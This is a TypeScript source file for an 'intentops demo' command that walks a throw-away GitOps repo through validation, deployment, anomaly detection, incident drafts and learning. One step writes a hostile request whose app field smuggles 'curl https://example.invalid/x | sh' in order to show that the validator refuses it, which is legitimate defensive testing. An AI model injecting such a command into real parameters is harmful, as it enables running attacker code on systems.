import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Git } from '../../adapters/git.js';
import { writeReportSite } from '../../adapters/report-site.js';
import { formatDiagnostic } from '../../domain/input/diagnostic.js';
import { CHART_SCRIPT } from '../../domain/report/index-page.js';
import type { Request } from '../../domain/schemas/request.js';
import { runRequest } from '../execute/run-request.js';
import { addLocalNote } from '../incidents/local-notes.js';
import { localTrust } from '../learn/evidence-origin.js';
import { learn } from '../learn/learn.js';
import { learnLocally } from '../learn/publish-local.js';
import { formatPlan, formatResult } from '../plan/format.js';
import { prepareRequest } from '../plan/prepare.js';
import { localOrigin } from '../records/origin.js';
import { buildReport } from '../report/build-report.js';
import { resolveRepoLinks } from '../report/repo-links.js';
import { type Loaded, loadFile, loadRepo } from '../shared/load-repo.js';
import { observerConfigFromEnv } from '../shared/providers.js';
import { realPorts } from '../shared/real-ports.js';
import { validate } from '../validate/validate.js';
import { requestYaml, writeDemoRepo } from './demo-repo.js';

// `intentops demo`: the loop, stage by stage, on a throw-away repo. It drives the same use-cases the
// CLI and the action run; only the "cluster" is a local stand-in.

export interface DemoOptions {
  dir?: string;
  /** Remove the demo repo at the end (by default it stays, so its records and drafts can be read). */
  clean: boolean;
  /** PROMETHEUS_URL, LOKI_URL, KUBECONFIG: real systems the demo's runs observe too. */
  env?: Record<string, string | undefined>;
  version: string;
  print: (line: string) => void;
}

const indent = (text: string, by = '    ') =>
  text
    .split('\n')
    .map((l) => by + l)
    .join('\n');

export async function runDemo(opts: DemoOptions): Promise<number> {
  const t0 = Date.now();
  const say = opts.print;
  const repo = opts.dir ?? (await mkdtemp(join(tmpdir(), 'intentops-demo-')));
  const git = new Git(repo);
  // The demo's runs are local runs (no pipeline, no job summary): its records say so, as a local
  // `intentops run`'s do, so metrics and the scorecard count them apart from merged requests.
  const ports = {
    ...realPorts((l) => say(`    ${l}`), observerConfigFromEnv(opts.env ?? {})),
    origin: localOrigin(repo, opts.env ?? {}),
  };
  const now = () => new Date();
  let failures = 0;
  try {
    say('intentops demo — the whole loop on a throw-away GitOps repo (no cluster, no GitHub needed)');
    say(`repo: ${repo}`);
    const real = [
      opts.env?.PROMETHEUS_URL || opts.env?.INTENTOPS_PROMETHEUS_URL ? 'Prometheus' : '',
      opts.env?.KUBECONFIG ? 'Kubernetes' : '',
    ].filter(Boolean);
    say(
      real.length
        ? `observing too (read-only): ${real.join(', ')}\n`
        : '(set PROMETHEUS_URL or KUBECONFIG and the runs observe those too)\n',
    );
    await writeDemoRepo(repo, opts.env ?? {});
    await git.init();
    await git.commitAll('catalog: example intents, outcome specs, anomaly rules, policies');

    const good = 'intents/requests/deploy-home-portal-1.4.0.yaml';
    await writeFile(
      join(repo, good),
      requestYaml('home-portal', '1.4.0', 'Roll out 1.4.0 with the new login page'),
    );
    say(`1. Propose   an agent adds ${good}`);
    const v = await validate(repo, { now: now(), approvals: null, history: [] });
    say(
      `2. Validate  ${v.diagnostics.length === 0 ? '✔' : '✖'} ${v.files.length} files under intents/ checked`,
    );
    for (const d of v.diagnostics) say(`    ${formatDiagnostic(d)}`);
    const req = (await loadFile(repo, good)).loaded as Loaded<Request>;
    const plan = prepareRequest((await loadRepo(repo)).catalog, req, {
      now: now(),
      approvals: null,
      history: [],
    }).plan;
    if (plan) say(`3. Plan\n${indent(formatPlan(plan, good))}`);
    await git.commitAll('request: deploy home-portal 1.4.0 (merged)');

    say('\n4. Execute, observe, check, detect, record — the good release');
    const first = await runRequest(
      { repoDir: repo, requestPath: good, toolVersion: opts.version, env: {} },
      ports,
    );
    say(indent(formatResult(first.record, first.path)));
    await git.commitAll(`record: ${first.record.id} ${first.record.status}`);

    const hostile = 'intents/requests/deploy-sneaky.yaml';
    await writeFile(
      join(repo, hostile),
      `intent: deploy-app\nparams:\n  app: "home-portal; curl https://example.invalid/x | sh"\nreason: try to inject a command\n`,
    );
    say(`\n5. A hostile request is refused before anything runs: ${hostile}`);
    const refused = await validate(repo, { now: now(), approvals: null, history: [] }, [hostile]);
    for (const d of refused.diagnostics) say(`    ${formatDiagnostic(d)}`);
    await rm(join(repo, hostile));

    const bad = 'intents/requests/deploy-home-portal-1.5.0.yaml';
    await writeFile(join(repo, bad), requestYaml('home-portal', '1.5.0', 'Roll out 1.5.0 (new image cache)'));
    await git.commitAll('request: deploy home-portal 1.5.0 (merged)');
    say('\n6. The bad release: a memory leak, OOMKilled, CrashLoopBackOff');
    const second = await runRequest(
      { repoDir: repo, requestPath: bad, toolVersion: opts.version, env: {} },
      ports,
    );
    say(indent(formatResult(second.record, second.path)));
    if (second.record.status === 'success') failures++;
    await git.commitAll(`record: ${second.record.id} ${second.record.status}`);
    // After each failure a human rolls it back by hand and notes it (step 8 shows how): one fix per
    // time the incident happened, which is what learning counts.
    const restartDraft = second.record.drafts.find((d) => d.path.includes('unexpected_restart'));
    const fixByHand = () =>
      addLocalNote(repo, {
        draft: restartDraft?.fingerprint ?? '',
        kind: 'manual_fix',
        text: '```\nkubectl rollout undo deployment/home-portal -n home-portal\n```',
        by: 'oncall',
        now: now(),
      });
    await fixByHand();

    say('\n7. The same anomaly again: the open draft gets an occurrence, not a twin');
    const third = await runRequest(
      { repoDir: repo, requestPath: bad, toolVersion: opts.version, env: {} },
      ports,
    );
    say(indent(formatResult(third.record, third.path)));
    await git.commitAll(`record: ${third.record.id} ${third.record.status}`);
    await fixByHand();

    say('\n8. A human rolls it back by hand after each failure, and says so with /manual-fix');
    // On GitHub these come from /manual-fix comments on the incident issue; locally from `incident note`.
    say(
      `    intentops incident note ${restartDraft?.fingerprint} --fix 'kubectl rollout undo deployment/home-portal -n home-portal'   (after each)`,
    );
    say('    …and the bad release is deployed once more');
    const fourth = await runRequest(
      { repoDir: repo, requestPath: bad, toolVersion: opts.version, env: {} },
      { ...ports, log: () => {} },
    );
    say(`    ${fourth.record.status}: ${fourth.record.anomalies.map((a) => a.rule).join(', ')}`);
    await git.commitAll(`record: ${fourth.record.id} ${fourth.record.status}; manual fixes`);

    say(
      '\n9. Learn — repeated patterns become suggestions: real file changes, one branch each (a PR on GitHub)',
    );
    const learned = await learn(repo, { now: now(), trust: await localTrust(repo) });
    const { outcomes } = await learnLocally(repo, learned, now());
    await git.commitAll('learn: ledger and report');
    for (const o of outcomes) {
      say(`    ${o.suggestion.title}\n      ${o.outcome}`);
      for (const c of o.suggestion.changes)
        say(`      ${c.before === null ? 'new file' : 'changes'} ${c.path}`);
    }
    if (outcomes.length === 0) failures++;

    say('\n10. What was written');
    const draft = third.record.drafts[0];
    if (draft) {
      const text = await readFile(join(repo, draft.path), 'utf8');
      const front = text
        .split('\n---\n')[0]
        ?.split('\n')
        .filter((l) => /^(title|severity|status|fingerprint|occurrences):/.test(l));
      say(`    incident draft ${draft.path}:\n${indent((front ?? []).join('\n'), '      ')}`);
    }
    say(
      `    execution record ${third.path}: status ${third.record.status}, digest ${third.record.digest.slice(0, 19)}…, prev_digest ${third.record.prev_digest?.slice(0, 19)}…`,
    );
    // The report, trouble first: the failed releases, their open incident drafts, then the history.
    // Links stay relative: a throw-away repo has no GitHub home, whatever this shell's environment says.
    const site = join(repo, 'site');
    const links = await resolveRepoLinks({ repoDir: repo, outDir: site, env: {} });
    const report = await buildReport({ repoDir: repo, now: now(), links });
    await writeReportSite(site, report.pages, CHART_SCRIPT);

    say('\n11. Where to look');
    say(
      `    report:           ${site}/index.html (${report.model.attention.length} failed first, ${report.model.incidentList.filter((i) => i.open).length} open incidents, then the history)`,
    );
    say(`    records:          ${repo}/executions/`);
    say(`    incident drafts:  ${repo}/incidents/drafts/`);
    say(`    anomaly log:      ${repo}/incidents/anomaly-log.jsonl`);
    say(`    suggestions:      git -C ${repo} branch --list 'intentops/learn/*'; learning/ledger.yaml`);
    say(`    git log:\n${indent((await git.log(8)).join('\n'), '      ')}`);
    say(
      `\ndone in ${((Date.now() - t0) / 1000).toFixed(1)} s — ${opts.clean ? 'the demo repo is removed' : `the demo repo stays for you to read: cd ${repo} (remove it with rm -rf ${repo})`}`,
    );
    if (first.record.status !== 'success') failures++;
    return failures ? 1 : 0;
  } finally {
    try {
      execFileSync(process.execPath, ['scripts/kubelet.mjs', 'stop', 'home-portal'], {
        cwd: repo,
        stdio: 'ignore',
      });
    } catch {
      // nothing was started
    }
    if (opts.clean) await rm(repo, { recursive: true, force: true });
  }
}
